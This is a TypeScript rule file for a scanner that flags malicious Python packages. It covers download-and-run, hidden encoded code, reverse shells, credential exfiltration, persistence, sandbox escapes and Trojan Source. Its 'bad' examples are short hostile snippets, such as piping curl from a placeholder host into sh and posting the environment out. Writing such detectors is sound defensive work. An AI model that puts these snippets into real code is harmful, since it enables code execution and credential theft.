import type { Rule } from '../../../core/rule.ts';
import {
  AML_T0010,
  AML_T0011,
  CWE_200,
  CWE_494,
  CWE_506,
  CWE_78,
  CWE_829,
  CWE_94,
} from '../references.ts';

const FIX =
  'Do not run or import the file. Find out who wrote it and why; if it ran already, treat the machine and its credentials as taken.';

export const RULES = {
  'download-and-run': {
    title: 'Code is fetched and run on import',
    severity: 'critical',
    message: 'on import, {callee} runs what {source} fetched',
    why: 'Whoever controls the address decides what runs on this machine, each time the file is imported, and can show scanners something else.',
    fix: FIX,
    references: [CWE_494, CWE_506, AML_T0011],
    example: {
      bad: 'exec(urllib.request.urlopen("https://host.invalid/x").read())',
      good: 'from mypackage import x',
    },
  },
  'downloaded-code': {
    title: 'Fetched code is run',
    severity: 'high',
    message: '{callee} runs what {source} fetched',
    why: 'Whoever controls the address, or stands between, decides what runs on this machine when the function is called.',
    fix: 'Ship the code with the package, or verify a signature or digest before it is run.',
    references: [CWE_494, CWE_829, AML_T0010],
    example: {
      bad: 'def update(): exec(requests.get(URL).text)',
      good: 'def update(): importlib.import_module("mypackage.plugin")',
    },
  },
  'hidden-code': {
    title: 'Hidden code runs on import',
    severity: 'critical',
    message: 'on import, {callee} runs code that {decoder} hid',
    why: 'Code that is encoded and decoded only to be run is meant not to be read. Packages do not need that; malware does it all the time.',
    fix: FIX,
    references: [CWE_506, CWE_94, AML_T0011],
    example: {
      bad: 'exec(base64.b64decode("cHJpbnQoMSk="))',
      good: 'print(1)',
    },
  },
  'hidden-code-later': {
    title: 'Hidden code runs when a function is called',
    severity: 'medium',
    message: '{callee} runs code that {decoder} hid',
    why: 'Code that is encoded and decoded only to be run is meant not to be read.',
    fix: 'Decode it without running it and read it. Unless you know exactly what it is for, do not run the file.',
    references: [CWE_506, CWE_94],
    example: {
      bad: 'def run(x): eval(zlib.decompress(x))',
      good: 'def run(x): return json.loads(x)',
    },
  },
  'hostile-command': {
    title: 'A command that fetches and runs, or opens the machine',
    severity: 'critical',
    message: 'on import, {callee} starts a command that {effect}',
    why: 'Such commands fetch and run a program, give somebody a shell, or make something start again by itself. Nothing that is only imported needs them.',
    fix: FIX,
    references: [CWE_78, CWE_506, AML_T0011],
    example: {
      bad: 'os.system("curl -s https://host.invalid/i | sh")',
      good: 'subprocess.run(["git", "--version"])',
    },
  },
  'hostile-command-later': {
    title: 'A function starts a command that fetches and runs',
    severity: 'medium',
    message: '{callee} starts a command that {effect}',
    why: 'Such commands fetch and run a program, give somebody a shell, or make something start again by itself.',
    fix: 'Read what the command does before the function is called, and replace it by a download with a known digest.',
    references: [CWE_78, CWE_494],
    example: {
      bad: 'def setup(): os.system("curl https://host.invalid/i | sh")',
      good: 'def setup(): verify_and_install(path, digest)',
    },
  },
  'command-on-import': {
    title: 'A command runs on import',
    severity: 'low',
    message: 'on import, {callee} starts a command',
    why: 'Importing a module should define names and do nothing else. A command may be harmless (asking git for a version) and still surprises whoever only wanted the names.',
    fix: 'Move the command into a function or behind if __name__ == "__main__".',
    references: [CWE_78],
    example: {
      bad: 'VERSION = subprocess.check_output(["git", "describe"])',
      good: 'def version(): return subprocess.check_output(["git", "describe"])',
    },
  },
  'credentials-sent': {
    title: 'Credentials leave the machine',
    severity: 'critical',
    message: '{callee} sends {what} to another machine',
    why: 'Keys, tokens and the environment open everything this user can reach. No library collects them.',
    fix: FIX,
    references: [CWE_200, CWE_506],
    example: {
      bad: 'requests.post(url, json=dict(os.environ))',
      good: 'requests.post(url, headers={"Authorization": os.environ["API_KEY"]})',
    },
  },
  'reverse-shell': {
    title: 'A shell for somebody else',
    severity: 'critical',
    message: 'a connection becomes the input and output of {callee}',
    why: 'The file connects to another machine and lets it type commands here.',
    fix: FIX,
    references: [CWE_506, CWE_78],
    example: {
      bad: 'os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
      good: 's.sendall(answer)',
    },
  },
  'network-on-import': {
    title: 'A connection is made on import',
    severity: 'low',
    message: 'on import, {callee} talks to another machine',
    why: 'Importing a module should define names and do nothing else. A connection tells somebody that, when and where the file is used, and its answer can change what follows.',
    fix: 'Make the connection in a function, when it is asked for.',
    references: [CWE_829],
    example: {
      bad: 'LATEST = requests.get(url).json()',
      good: 'def latest(): return requests.get(url).json()',
    },
  },
  persistence: {
    title: 'Something is made to start by itself',
    severity: 'high',
    message: '{callee} writes to {file}, which is run at the next start or login',
    why: 'What stands there runs without anybody starting it, also after the file itself is gone.',
    fix: FIX,
    references: [CWE_506],
    example: {
      bad: 'open(os.path.expanduser("~/.bashrc"), "a").write(line)',
      good: 'print("add this line to ~/.bashrc:", line)',
    },
  },
  'persistence-later': {
    title: 'A function makes something start by itself',
    severity: 'low',
    message: '{callee} writes to {file}, which is run at the next start or login',
    why: 'Tools that complete commands in a shell do that when they are asked to. What stands there runs without anybody starting it, also after the package itself is gone.',
    fix: 'Make sure that the function is only called when the user asks for it.',
    references: [CWE_506],
    example: {
      bad: 'def setup(): open(os.path.expanduser("~/.bashrc"), "a").write(line)',
      good: 'print("add this line to ~/.bashrc:", line)',
    },
  },
  'object-walk': {
    title: 'All classes are reached through an object',
    severity: 'high',
    message: 'code walks from an object over its class to all classes of the process',
    why: 'That is how code reaches subprocess.Popen and the like without naming them: out of a sandbox, or past a scanner. Programs that only want their own subclasses ask their own class.',
    fix: 'Read what is done with the classes. Do not run the file unless you know what it is for.',
    references: [CWE_506, CWE_94],
    example: {
      bad: '().__class__.__base__.__subclasses__()',
      good: 'Plugin.__subclasses__()',
    },
  },
  'turned-text': {
    title: 'Source code that does not read as it runs',
    severity: 'high',
    message: 'invisible characters turn the direction of the text round',
    why: 'Editors and reviewers see the letters in another order than the interpreter, so that a comment hides code or code reads like a comment. It is known as Trojan Source.',
    fix: 'Look at the line with the characters made visible, and remove them. In texts for people, write them as escapes.',
    references: [
      { id: 'CWE-1007', url: 'https://cwe.mitre.org/data/definitions/1007.html' },
      { id: 'CVE-2021-42574', url: 'https://nvd.nist.gov/vuln/detail/CVE-2021-42574' },
    ],
    example: { bad: 'U+202E in front of a comment', good: '"\\u202e" in a text' },
  },
  'encoded-source': {
    title: 'Source code in an encoding that hides it',
    severity: 'high',
    message: 'the file declares the encoding {encoding}, in which code does not look like code',
    why: 'Python decodes a file as its second line says. In UTF-7, in escapes or in ROT13, what reads like a comment to people and scanners is code to Python.',
    fix: FIX,
    references: [CWE_506],
    example: { bad: '# coding: utf-7', good: '# coding: utf-8' },
  },
} satisfies Record<string, Rule>;
